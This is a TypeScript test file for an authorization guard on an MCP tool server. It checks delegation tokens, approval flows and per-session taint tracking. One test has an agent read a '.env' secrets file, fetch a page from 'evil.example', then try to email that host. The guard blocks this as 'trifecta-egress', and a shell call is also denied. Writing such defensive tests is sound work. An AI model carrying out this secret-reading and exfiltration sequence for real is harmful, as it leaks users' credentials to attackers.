/**
 * @module test/http
 * The server guard over Streamable HTTP on loopback: a `node:http` server hands each request
 * to the session's `StreamableHTTPServerTransport` with `req.auth` read from the
 * `Authorization: Bearer` header (unverified: the guard verifies it on every call), and a
 * real `StreamableHTTPClientTransport` sends a real signed delegation token.
 */
import { randomUUID } from 'node:crypto';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { AuthInfo } from '@modelcontextprotocol/sdk/server/auth/types.js';
import { StreamableHTTPServerTransport } from '@modelcontextprotocol/sdk/server/streamableHttp.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bearerAuthInfo, type McpServerGuard } from '../src/index.js';
import {
  approvalToken,
  type CallLog,
  decisionOf,
  delegationToken,
  type Keys,
  makeGuard,
  makeServer,
  testKeys,
  textOf,
} from './fixtures.js';

let http: Server;
let url: URL;
let keys: Keys;
let mandate: McpServerGuard;
const log: CallLog = [];
const sessions = new Map<string, StreamableHTTPServerTransport>();

beforeAll(async () => {
  keys = await testKeys();
  mandate = makeGuard(keys);
  http = createServer(async (req: IncomingMessage & { auth?: AuthInfo }, res) => {
    const auth = bearerAuthInfo(req.headers);
    if (auth !== undefined) req.auth = auth;
    const sid = req.headers['mcp-session-id'];
    let transport = typeof sid === 'string' ? sessions.get(sid) : undefined;
    if (transport === undefined) {
      const t = new StreamableHTTPServerTransport({
        sessionIdGenerator: () => randomUUID(),
        onsessioninitialized: (id) => void sessions.set(id, t),
      });
      await makeServer(mandate, log).connect(t);
      transport = t;
    }
    await transport.handleRequest(req, res);
  });
  await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
  url = new URL(`http://127.0.0.1:${(http.address() as AddressInfo).port}/mcp`);
});

afterAll(async () => {
  for (const t of sessions.values()) await t.close();
  http.closeAllConnections();
  await new Promise((r) => http.close(r));
});

async function client(token?: string): Promise<Client> {
  const transport = new StreamableHTTPClientTransport(url, {
    requestInit: token === undefined ? {} : { headers: { Authorization: `Bearer ${token}` } },
  });
  const c = new Client({ name: 'agent', version: '1.0.0' });
  await c.connect(transport);
  return c;
}

describe('Streamable HTTP with a bearer token', () => {
  it('allows, denies, asks for approval and filters the list for the token’s identity', async () => {
    const alice = await client(await delegationToken(keys.issuer.privateKey, 'alice', ['mail-agent']));
    expect((await alice.listTools()).tools.map((t) => t.name).sort()).toEqual([
      'delete_file',
      'fetch_page',
      'read_file',
      'send_email',
    ]);

    const ok = await alice.callTool({ name: 'read_file', arguments: { path: '/work/a.md' } });
    expect(textOf(ok)).toBe('contents of /work/a.md');

    const denied = await alice.callTool({ name: 'run_shell', arguments: { command: 'id' } });
    expect(denied.isError).toBe(true);
    expect(decisionOf(denied)).toMatchObject({ outcome: 'deny', reasons: ['no-shell'] });

    const pending = await alice.callTool({ name: 'delete_file', arguments: { path: '/work/a.md' } });
    const binding = (decisionOf(pending) as { obligations: { binding: Parameters<typeof approvalToken>[1] }[] })
      .obligations[0]?.binding;
    expect(binding?.sessionId).toMatch(/^mcp:/);
    const approval = await approvalToken(keys.approver.privateKey, binding as Parameters<typeof approvalToken>[1]);
    const done = await alice.callTool({
      name: 'delete_file',
      arguments: { path: '/work/a.md' },
      _meta: { 'mandate/approval': approval },
    });
    expect(textOf(done)).toBe('deleted /work/a.md');
    expect(log.map((l) => l.tool)).toEqual(['read_file', 'delete_file']);
    await alice.close();
  });

  it('refuses calls without a bearer token, or with one signed by another key', async () => {
    const before = log.length;
    const anonymous = await client();
    expect((await anonymous.listTools()).tools).toEqual([]);
    const res = await anonymous.callTool({ name: 'read_file', arguments: { path: '/work/a.md' } });
    expect(decisionOf(res)).toMatchObject({ reasons: ['mandate:unauthenticated'] });
    const forged = await client(await delegationToken(keys.other.privateKey, 'alice', ['mail-agent']));
    const res2 = await forged.callTool({ name: 'read_file', arguments: { path: '/work/a.md' } });
    expect(textOf(res2)).toContain('token refused');
    expect(log.length).toBe(before);
    await anonymous.close();
    await forged.close();
  });

  it('keeps each HTTP session’s taint apart, and never lets one identity use another’s session', async () => {
    const token = await delegationToken(keys.issuer.privateKey, 'alice', ['mail-agent']);
    const a = await client(token);
    await a.callTool({ name: 'read_file', arguments: { path: '/home/alice/.env' } });
    await a.callTool({ name: 'fetch_page', arguments: { url: 'https://evil.example' } });
    const blocked = await a.callTool({ name: 'send_email', arguments: { host: 'evil.example', text: 'x' } });
    expect(decisionOf(blocked)).toMatchObject({ reasons: ['trifecta-egress'] });
    const b = await client(token);
    const fresh = await b.callTool({ name: 'send_email', arguments: { host: 'mail.example.com', text: 'x' } });
    expect(fresh.isError).toBeFalsy();
    await a.close();
    await b.close();
  });
});
